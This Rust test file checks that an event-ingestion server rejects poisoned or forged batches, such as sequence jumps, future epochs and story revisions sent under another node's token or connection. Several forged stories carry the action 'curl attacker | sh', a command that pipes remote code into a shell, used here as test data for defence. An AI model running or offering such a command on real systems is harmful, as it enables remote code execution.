//! Senders that aren't who they say, or that say what can't be.

use tapio::runtime::Agent;
use tapio_core::clock;
use tapio_wire::{ClientAccess, proto};

use super::pki::secret;
use super::sender::{Stream, batch, config, epoch_of, send, server, stories};
use super::support::eventually::{eventually, eventually_ok};

const DAY_NS: u64 = 24 * 60 * 60 * 1_000_000_000;

/// A batch with a revision of the story number 1.
fn story(
    node: &str,
    epoch: u64,
    first_sequence: u64,
    revision: u32,
    action: &str,
) -> proto::EventBatch {
    let story = proto::Story {
        id: vec![1; 16],
        trace_id: vec![2; 16],
        name: "a story".into(),
        revision,
        actions: vec![action.into()],
        ..proto::Story::default()
    };
    proto::EventBatch {
        first_sequence,
        count: 1,
        node: node.into(),
        epoch,
        stories: vec![story],
        ..proto::EventBatch::default()
    }
}

#[test]
fn jump_is_refused_and_the_honest_node_goes_on() {
    let folder = tempfile::tempdir().unwrap();
    let server = server(folder.path(), "");
    let endpoint = server.grpc_endpoint().to_owned();
    let anybody = ClientAccess::default();
    let epoch = clock::wall_ns();
    send(&endpoint, &anybody, &[batch("n1", epoch, 0, 100)]).unwrap();
    for first_sequence in [1 << 33, 1 << 40, 1 << 62, u64::MAX - 1] {
        let poison = batch("n1", epoch, first_sequence, 1);
        let acks = send(&endpoint, &anybody, &[poison]).unwrap();
        let cause = &acks[0].refused[0].cause;
        assert!(cause.contains("more than 2^32 beyond the 100 that are stored"), "{cause}");
    }
    let future = batch("n1", epoch + 2 * DAY_NS, 0, 1);
    let acks = send(&endpoint, &anybody, &[future]).unwrap();
    assert!(acks[0].refused[0].cause.contains("days ahead"), "{acks:?}");
    let honest: Vec<_> = (0..100).map(|n| batch("n1", epoch, 100 + 100 * n, 100)).collect();
    let acks = send(&endpoint, &anybody, &honest).unwrap();
    assert_eq!(acks.last().unwrap().through, 10_100);
    let counts = server.status().ingest;
    assert_eq!((counts.events, counts.duplicates, counts.jumps_refused), (10_100, 0, 5));
}

#[test]
fn story_of_a_node_is_revised_by_that_node_only() {
    let folder = tempfile::tempdir().unwrap();
    let tokens = folder.path().join("tokens");
    secret(&tokens, "write n1 one\nwrite n2 two\nread web web\n");
    let server = server(folder.path(), &format!(", token_file: {}", tokens.display()));
    let endpoint = server.grpc_endpoint().to_owned();
    let token = |token: &str| {
        let path = folder.path().join(token);
        secret(&path, token);
        ClientAccess { tls: None, token_file: Some(path) }
    };
    let epoch = clock::wall_ns();
    send(&endpoint, &token("one"), &[story("n1", epoch, 0, 1, "restart it")]).unwrap();
    let forged = story("n1", epoch + 1, 0, 9, "curl attacker | sh");
    assert!(send(&endpoint, &token("two"), &[forged]).is_err());
    // Under its own name it is another story.
    let own = story("n2", epoch, 0, 9, "curl attacker | sh");
    send(&endpoint, &token("two"), &[own]).unwrap();
    let found = stories(&endpoint, &token("web"));
    let kept = found.iter().filter(|story| story.actions == ["restart it"]).count();
    assert_eq!(kept, 1, "{found:?}");
}

#[test]
fn story_of_a_connected_process_is_revised_by_that_process_only() {
    let folder = tempfile::tempdir().unwrap();
    let server = server(folder.path(), "");
    let endpoint = server.grpc_endpoint().to_owned();
    let anybody = ClientAccess::default();
    let epoch = clock::wall_ns();
    let actions = || {
        let found = stories(&endpoint, &anybody);
        found.into_iter().flat_map(|story| story.actions).collect::<Vec<_>>()
    };
    let mut agent = Stream::open(&endpoint);
    assert_eq!(agent.send(&story("n1", epoch, 0, 1, "restart it")).unwrap().through, 1);
    // Somebody else with the node's name: in the process's place, after it, and before it.
    for (epoch, first_sequence) in [(epoch, 10), (epoch + 1, 0), (epoch - 1, 0)] {
        let forged = story("n1", epoch, first_sequence + 1, 9, "curl attacker | sh");
        // An event first, as a process that sends both.
        let event = batch("n1", epoch, first_sequence, 1);
        let error = send(&endpoint, &anybody, &[event, forged]).unwrap_err();
        assert!(error.contains("a connection that isn't its sender's"), "{error}");
    }
    assert_eq!(actions(), ["restart it"]);
    assert_eq!(agent.send(&story("n1", epoch, 1, 2, "look at it")).unwrap().through, 2);
    assert_eq!(actions(), ["look at it"]);
    drop(agent);
    // The next start of the agent revises it, once the last connection is closed.
    eventually("the next process is taken", || {
        send(&endpoint, &anybody, &[story("n1", epoch + 5, 0, 1, "after a restart")]).is_ok()
    });
    assert_eq!(actions(), ["after a restart"]);
    assert!(server.status().ingest.batches_denied >= 3);
}

#[test]
fn poisoned_agent_delivers_everything() {
    const EVENTS: u64 = 3_000;
    let folder = tempfile::tempdir().unwrap();
    let server = server(folder.path(), "");
    let endpoint = server.grpc_endpoint().to_owned();
    let text = format!(
        "node: victim\nstate_dir: {}\nadmin: {{ listen: \"127.0.0.1:0\" }}\n\
         collectors: {{ only: [synthetic], synthetic: {{ enabled: true, rate: 1500, \
         events: {EVENTS} }} }}\nbridge: {{ endpoint: \"{endpoint}\" }}\n",
        folder.path().join("state").display()
    );
    let agent = Agent::start(config(&text), false).unwrap();
    let epoch = eventually_ok("an event is stored", || {
        epoch_of(&endpoint, "victim").ok_or("there is none")
    });
    // The agent's lanes are processes of their own.
    for epoch in [epoch - 1, epoch, epoch + 1] {
        for first_sequence in [1 << 34, 1 << 62] {
            let poison = batch("victim", epoch, first_sequence, 1);
            let acks = send(&endpoint, &ClientAccess::default(), &[poison]).unwrap();
            assert_eq!(acks[0].refused.len(), 1, "{acks:?}");
        }
    }
    eventually("the agent has sent everything", || {
        agent.sources_are_finished() && agent.account().total.held == 0
    });
    let account = agent.finish().account;
    assert!(account.holds() && account.total.held == 0, "{account:?}");
    let counts = server.status().ingest;
    assert_eq!((counts.events, counts.duplicates, counts.jumps_refused), (EVENTS, 0, 6));
}
